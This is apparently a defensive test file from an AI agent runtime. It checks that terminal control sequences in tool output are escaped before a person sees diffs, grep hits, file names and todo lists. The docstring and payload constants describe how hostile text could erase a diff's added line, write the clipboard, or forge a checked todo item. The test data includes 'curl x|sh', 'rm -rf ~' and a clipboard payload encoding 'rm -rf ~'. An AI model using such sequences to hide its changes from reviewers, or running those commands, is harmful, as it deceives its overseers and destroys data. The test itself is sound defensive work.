"""Red team round 38 (novel3): terminal controls in the faces people read of the file tools.

The people face (`Tool.render_result`: a host's UI, the transcript's ``ui``) of Edit and Write is a
unified diff, of Grep a listing, of TodoWrite a checklist: shellrt's own framing (``+``/``-``
marks, ``name:line:``, ``[x]``) around text a hostile repository or model chose. Round 26 laid each
field out on its own among right-to-left letters (`_bidi.isolated`); the C0 and C1 controls went
through raw. On a terminal ``ESC[1A ESC[2K`` erased the diff's ``+`` line above it (in
``acceptEdits`` mode the diff is how a person sees what the model changed), OSC 52 wrote the
clipboard, OSC 0 the title, and a TodoWrite item's newline drew a forged ``[x] Deploy`` item. Now
each such field shows its controls as ``\\xNN`` (tabs kept): one field, one line, nothing run.
"""

from __future__ import annotations

import os
import re
from pathlib import Path
from typing import Any

import anyio

from shellrt.protocol import Tool, ToolContext
from shellrt.tools.edit import EditTool
from shellrt.tools.glob import GlobTool
from shellrt.tools.grep import GrepTool
from shellrt.tools.read import ReadTool
from shellrt.tools.todo_write import TodoWriteTool
from shellrt.tools.write import WriteTool
from tests.test_tools_edit import make_ctx

#: What a terminal acts on: C0 controls but tab and newline, DEL, C1 (``\x9b`` is a one-byte CSI).
_ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
#: Erase the line above (hides the diff's ``+`` line), clipboard write, title, C1 CSI, BEL.
HIDE = "\x1b[1A\x1b[2K"
CLIP = "\x1b]52;c;cm0gLXJmIH4K\x07"
TITLE = "\x1b]0;ok\x1b\\"
C1 = "\x9b2J"


def _workspace(tmp_path: Path) -> tuple[Path, ToolContext]:
    root = Path(os.path.realpath(tmp_path)) / "ws"
    (root / ".session").mkdir(parents=True)
    return root, make_ctx(root)


def _ui(tool: Tool[Any, Any], ctx: ToolContext, raw: dict[str, Any]) -> str:
    async def go() -> str:
        parsed = tool.parse_input(raw)
        verdict = await tool.validate(parsed, ctx)
        assert verdict.ok, verdict.message
        out = await tool.call(parsed, ctx)
        if out.context_modifier is not None:
            out.context_modifier(ctx)
        ui = tool.render_result(out.data)
        assert tool.audit_text(out.data).count("\x1b") == 0
        return ui

    return anyio.run(go)


def _assert_inert(ui: str) -> None:
    assert _ACTIVE.search(ui) is None, f"terminal controls reached the people face: {ui!r}"


def test_an_edit_diff_shows_the_controls_of_the_model_and_the_file(tmp_path: Path) -> None:
    root, ctx = _workspace(tmp_path)
    path = root / "deploy.py"
    path.write_text(f"import os\n# {CLIP}{TITLE}{C1}\nSAFE = True\n")
    _ui(ReadTool(), ctx, {"file_path": str(path)})
    ui = _ui(
        EditTool(),
        ctx,
        {
            "file_path": str(path),
            "old_string": "SAFE = True",
            "new_string": f"os.system('curl x|sh')\n#{HIDE}",
        },
    )
    _assert_inert(ui)
    assert "+os.system('curl x|sh')" in ui and "\\x1b[1A" in ui  # shown, visibly
    assert path.read_text().endswith(f"#{HIDE}\n")  # the file keeps its bytes


def test_a_write_diff_shows_them_too(tmp_path: Path) -> None:
    root, ctx = _workspace(tmp_path)
    path = root / "run.sh"
    path.write_text(f"echo hi\necho {TITLE}\n")
    _ui(ReadTool(), ctx, {"file_path": str(path)})
    ui = _ui(
        WriteTool(), ctx, {"file_path": str(path), "content": f"rm -rf ~\n#{HIDE}{CLIP}\necho {TITLE}\n"}
    )
    _assert_inert(ui)
    assert "+rm -rf ~" in ui


def test_a_grep_hit_shows_the_file_line_s_controls(tmp_path: Path) -> None:
    root, ctx = _workspace(tmp_path)
    (root / "notes.txt").write_text(f"needle {CLIP}{HIDE}{C1}\tend\n")
    ui = _ui(GrepTool(), ctx, {"pattern": "needle", "path": str(root), "output_mode": "content"})
    _assert_inert(ui)
    assert "needle" in ui and "\tend" in ui  # a tab stays a tab


def test_a_glob_name_shows_its_controls(tmp_path: Path) -> None:
    root, ctx = _workspace(tmp_path)
    (root / f"a{HIDE}{C1}.py").write_text("x\n")
    ui = _ui(GlobTool(), ctx, {"pattern": "*.py", "path": str(root)})
    _assert_inert(ui)


def test_a_todo_item_is_one_line_and_runs_nothing(tmp_path: Path) -> None:
    _root, ctx = _workspace(tmp_path)
    todos = [
        {"content": f"Run the tests\n[x] Deploy to production{HIDE}", "status": "pending", "activeForm": "x"},
        {"content": "b", "status": "in_progress", "activeForm": f"Checking{CLIP}\r[x] Reviewed"},
    ]
    ui = _ui(TodoWriteTool(), ctx, {"todos": todos})
    _assert_inert(ui)
    assert len(ui.split("\n")) == 2 and ui.startswith("[ ] Run the tests\\n[x] Deploy")
